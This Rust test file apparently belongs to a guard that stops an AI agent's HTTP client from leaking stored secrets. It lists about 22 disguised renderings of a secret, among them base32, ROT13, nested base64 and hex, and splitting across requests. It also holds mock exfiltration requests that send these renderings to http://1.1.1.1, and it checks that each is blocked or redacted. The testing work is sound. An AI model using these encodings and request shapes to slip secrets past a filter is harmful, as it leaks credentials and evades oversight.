//! Issue 16, item 11: the renderings of a secret that used to reach the
//! server (and the model, through command output) and the work that must
//! still pass. Included from `credentials.rs` (one test binary).

use std::sync::Arc;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use bulwark_net::{
    BodyMode, Credentials, EgressPolicy, HttpLimits, HttpRequest, MIN_FUZZY_SECRET_ALNUM, NetError,
    SafeHttp, SecretStore,
};
use proptest::prelude::*;
use secrecy::SecretString;

use super::support::RecordingDialer;
use super::{GH, MAPS, PROVIDER, STRICT, WIRE, grants, store, web};

fn pct_all(bytes: &[u8]) -> String {
    bytes.iter().map(|c| format!("%{c:02X}")).collect()
}

fn rot13(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A') + 13) % 26 + b'A') as char,
            o => o,
        })
        .collect()
}

/// The renderings the issue lists, and variants of each class, as bytes.
pub fn renderings(secret: &str) -> Vec<(&'static str, Vec<u8>)> {
    let b = secret.as_bytes();
    let chars: Vec<String> = secret.chars().map(String::from).collect();
    let utf16le: Vec<u8> = secret.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let utf16be: Vec<u8> = secret.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let escaped: String = secret
        .encode_utf16()
        .map(|u| format!("\\u{u:04x}"))
        .collect();
    let half = secret.len() / 2;
    let upper_escaped: String = secret[half..]
        .encode_utf16()
        .map(|u| format!("\\u{u:04X}"))
        .collect();
    let alternating: String = secret
        .chars()
        .enumerate()
        .map(|(i, c)| {
            if i % 2 == 0 {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect();
    let wrapped: String = secret
        .as_bytes()
        .chunks(4)
        .map(|c| String::from_utf8_lossy(c).to_string())
        .collect::<Vec<_>>()
        .join("\n");
    vec![
        (
            "reversed",
            secret.chars().rev().collect::<String>().into_bytes(),
        ),
        ("base32", data_encoding::BASE32.encode(b).into_bytes()),
        (
            "base32 lower, no padding",
            data_encoding::BASE32_NOPAD
                .encode(b)
                .to_lowercase()
                .into_bytes(),
        ),
        (
            "base32 inside a longer blob",
            data_encoding::BASE32
                .encode(&[b"id=7;", b, b";x"].concat())
                .into_bytes(),
        ),
        (
            "double percent-encoded",
            pct_all(pct_all(b).as_bytes()).into_bytes(),
        ),
        (
            "percent-encoded base64",
            pct_all(STANDARD.encode(b).as_bytes()).into_bytes(),
        ),
        (
            "base64 of hex",
            STANDARD.encode(hex::encode(b)).into_bytes(),
        ),
        (
            "hex of base64",
            hex::encode(STANDARD.encode(b)).into_bytes(),
        ),
        (
            "base64 of base64",
            STANDARD.encode(STANDARD.encode(b)).into_bytes(),
        ),
        (
            "base64 of base32",
            STANDARD
                .encode(data_encoding::BASE32.encode(b))
                .into_bytes(),
        ),
        (
            "reversed base64",
            STANDARD
                .encode(b)
                .chars()
                .rev()
                .collect::<String>()
                .into_bytes(),
        ),
        ("dash-joined", chars.join("-").into_bytes()),
        ("space-joined", chars.join(" ").into_bytes()),
        ("newline-wrapped", wrapped.into_bytes()),
        ("upper-cased", secret.to_uppercase().into_bytes()),
        ("alternating case", alternating.into_bytes()),
        ("ROT13", rot13(secret).into_bytes()),
        ("UTF-16LE", utf16le.clone()),
        ("UTF-16BE", utf16be),
        ("base64 of UTF-16LE", STANDARD.encode(&utf16le).into_bytes()),
        ("JSON \\u escapes", escaped.into_bytes()),
        (
            "half JSON \\u escapes",
            format!("{}{upper_escaped}", &secret[..half]).into_bytes(),
        ),
    ]
}

fn guarded_client() -> (SafeHttp, Arc<RecordingDialer>) {
    let dialer = Arc::new(RecordingDialer::default());
    let http = SafeHttp::new(
        EgressPolicy {
            allowed_domains: Vec::new(),
            allow_all: true,
        },
        HttpLimits::default(),
    )
    .expect("client")
    .with_dialer(dialer.clone())
    .with_credentials(Arc::new(
        Credentials::new(&grants(STRICT), store()).expect("creds"),
    ));
    (http, dialer)
}

fn post(url: &str, body: Vec<u8>) -> HttpRequest {
    HttpRequest {
        method: "POST".into(),
        url: url.into(),
        headers: Vec::new(),
        body,
    }
}

#[tokio::test]
async fn every_listed_rendering_is_refused() {
    let (http, dialer) = guarded_client();
    for secret in [GH, MAPS, WIRE, PROVIDER] {
        for (form, text) in renderings(secret) {
            let mut body = b"{\"note\":\"".to_vec();
            body.extend_from_slice(&text);
            body.extend_from_slice(b"\"}");
            let mut requests = vec![post("http://1.1.1.1/upload", body)];
            if let Ok(s) = String::from_utf8(text.clone()) {
                requests.push(HttpRequest::get(&format!("http://1.1.1.1/c?d={s}")));
                if !s.chars().any(char::is_control) {
                    let mut r = HttpRequest::get("http://1.1.1.1/");
                    r.headers.push(("X-Data".into(), s));
                    requests.push(r);
                }
            }
            for req in requests {
                let r = http.send_as(&web(), req, BodyMode::Prefix).await.result;
                let msg = format!("{r:?}");
                assert!(
                    matches!(r, Err(NetError::Exfiltration { .. })),
                    "{secret:?} as {form}: {msg}"
                );
                assert!(!msg.contains(secret), "{form}: the message leaks the value");
            }
        }
    }
    assert!(
        dialer.dialled().is_empty(),
        "a disguised secret was dialled"
    );
}

#[tokio::test]
async fn a_secret_split_across_requests_to_one_host_is_joined() {
    let cut = |s: &str, at: usize| (s[..at].to_string(), s[at..].to_string());
    let (a, b) = cut(GH, 13);
    let cases: Vec<(&str, Vec<HttpRequest>)> = vec![
        (
            "two bodies",
            vec![
                post("http://1.1.1.1/u", a.clone().into_bytes()),
                post("http://1.1.1.1/u", b.clone().into_bytes()),
            ],
        ),
        (
            "one JSON field in two bodies",
            vec![
                post(
                    "http://1.1.1.1/u",
                    format!("{{\"d\":\"{a}\",\"n\":1}}").into_bytes(),
                ),
                post(
                    "http://1.1.1.1/u",
                    format!("{{\"d\":\"{b}\",\"n\":1}}").into_bytes(),
                ),
            ],
        ),
        (
            "one query parameter",
            vec![
                HttpRequest::get(&format!("http://1.1.1.1/c?d={a}")),
                HttpRequest::get(&format!("http://1.1.1.1/c?d={b}")),
            ],
        ),
        (
            "two query parameters",
            vec![
                HttpRequest::get(&format!("http://1.1.1.1/c?a={a}")),
                HttpRequest::get(&format!("http://1.1.1.1/c?b={b}")),
            ],
        ),
        (
            "path segments",
            vec![
                HttpRequest::get(&format!("http://1.1.1.1/x/{a}")),
                HttpRequest::get(&format!("http://1.1.1.1/x/{b}")),
            ],
        ),
        (
            "three parts, hex",
            vec![
                post("http://1.1.1.1/u", hex::encode(&GH[..8]).into_bytes()),
                post("http://1.1.1.1/u", hex::encode(&GH[8..19]).into_bytes()),
                post("http://1.1.1.1/u", hex::encode(&GH[19..]).into_bytes()),
            ],
        ),
    ];
    for (name, requests) in cases {
        // A fresh session for each case: the window is per session.
        let (http, dialer) = guarded_client();
        let last = requests.len() - 1;
        for (i, req) in requests.into_iter().enumerate() {
            let r = http.send_as(&web(), req, BodyMode::Prefix).await.result;
            if i < last {
                assert!(
                    matches!(r, Err(NetError::Transport { .. })),
                    "{name} part {i}: {r:?}"
                );
            } else {
                let msg = r
                    .as_ref()
                    .err()
                    .map(ToString::to_string)
                    .unwrap_or_default();
                assert!(
                    matches!(r, Err(NetError::Exfiltration { .. }))
                        && msg.contains("earlier requests"),
                    "{name}: the last part was sent: {r:?}"
                );
            }
        }
        assert_eq!(dialer.dialled().len(), last, "{name}");
    }
}

#[tokio::test]
async fn ordinary_traffic_still_passes() {
    let (http, dialer) = guarded_client();
    let near_miss: String = {
        let mut c: Vec<char> = GH.chars().collect();
        c[10] = if c[10] == 'x' { 'y' } else { 'x' };
        c.into_iter().collect()
    };
    let bodies: Vec<Vec<u8>> = vec![
        b"{\"query\":\"rust tokio hyper\",\"page\":2,\"per_page\":50}".to_vec(),
        br#"{"title":"Build fails on x86_64","body":"see https://example.com/a/b?c=d","labels":["bug","P-high"]}"#.to_vec(),
        "The quick brown fox jumps over the lazy dog. Grüße, 日本語.".as_bytes().to_vec(),
        // Another secret's near miss, raw and encoded.
        near_miss.clone().into_bytes(),
        STANDARD.encode(&near_miss).into_bytes(),
        // A piece of a secret shorter than the whole.
        GH.as_bytes()[..GH.len() - 1].to_vec(),
        GH.as_bytes()[1..].to_vec(),
        hex::encode(&GH[..GH.len() - 2]).into_bytes(),
        // A sha and a UUID: hex and base64-looking runs.
        b"commit 9fceb02d0ae598e95dc970b74767f19372d61af8 id 123e4567-e89b-12d3-a456-426614174000".to_vec(),
    ];
    let n = bodies.len();
    for body in bodies {
        let r = http
            .send_as(
                &web(),
                post("http://1.1.1.1/api", body.clone()),
                BodyMode::Prefix,
            )
            .await
            .result;
        assert!(
            matches!(r, Err(NetError::Transport { .. })),
            "{:?}: {r:?}",
            String::from_utf8_lossy(&body)
        );
    }
    // A template repeated with ordinary values does not join into anything.
    for page in 0..5 {
        let r = http
            .get(&format!("http://1.1.1.1/search?q=rust+tokio&page={page}"))
            .await;
        assert!(matches!(r, Err(NetError::Transport { .. })), "{r:?}");
    }
    assert_eq!(dialer.dialled().len(), n + 5);
}

#[test]
fn command_output_is_redacted_in_every_rendering() {
    let s = store();
    for secret in [GH, MAPS, WIRE, PROVIDER] {
        for (form, text) in renderings(secret) {
            let text = String::from_utf8_lossy(&text).to_string();
            let output = format!("starting\nvalue: {text} (done)\nexit 0\n");
            let red = s.redact(&output);
            assert!(red.contains("[secret "), "{form}: not redacted: {red:?}");
            assert!(
                s.find_in(red.as_bytes()).is_none(),
                "{form}: still visible after redaction: {red:?}"
            );
            assert!(
                red.contains("starting\n") && red.contains("exit 0"),
                "{form}: {red:?}"
            );
        }
    }
    let ordinary = "total 8\n-rw-r--r-- 1 user user 42 Jan  1 00:00 Cargo.toml\n";
    assert_eq!(s.redact(ordinary), ordinary);
}

fn has_enough_alnum(s: &str) -> bool {
    s.bytes().filter(u8::is_ascii_alphanumeric).count() >= MIN_FUZZY_SECRET_ALNUM
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    /// Any secret with enough letters and digits, embedded in random text
    /// under any of the renderings, is found and redacted.
    #[test]
    fn any_rendering_in_random_text_is_found(
        secret in "[A-Za-z0-9][A-Za-z0-9_.-]{11,40}",
        prefix in "[a-z0-9 ,.:;=&\n]{0,40}",
        suffix in "[a-z0-9 ,.:;=&\n]{0,40}",
        which in 0usize..22,
    ) {
        prop_assume!(has_enough_alnum(&secret));
        let mut store = SecretStore::new();
        store.insert("K", SecretString::from(secret.clone()), true);
        let (form, text) = renderings(&secret).swap_remove(which);
        let mut hay = prefix.clone().into_bytes();
        hay.extend_from_slice(&text);
        hay.extend_from_slice(suffix.as_bytes());
        prop_assert_eq!(store.find_in(&hay), Some("K"), "{} in {:?}", form, String::from_utf8_lossy(&hay));
        let shown = String::from_utf8_lossy(&hay).to_string();
        let red = store.redact(&shown);
        prop_assert!(store.find_in(red.as_bytes()).is_none(), "{}: {:?}", form, red);
    }

    /// Random text, JSON-shaped or not, does not trip three secrets.
    #[test]
    fn random_text_without_a_secret_passes(
        text in "[ -~\n]{0,400}",
        words in proptest::collection::vec("[a-z]{1,12}|[0-9]{1,6}|[A-Za-z0-9+/]{4,40}", 0..40),
    ) {
        let mut store = SecretStore::new();
        for (k, v) in [("A", GH), ("B", MAPS), ("C", PROVIDER)] {
            store.insert(k, SecretString::from(v), true);
        }
        let json = format!("{{\"items\":[\"{}\"]}}", words.join("\",\""));
        prop_assert_eq!(store.find_in(text.as_bytes()), None, "{:?}", text);
        prop_assert_eq!(store.find_in(json.as_bytes()), None, "{:?}", json);
        prop_assert_eq!(store.redact(&text), text);
    }
}
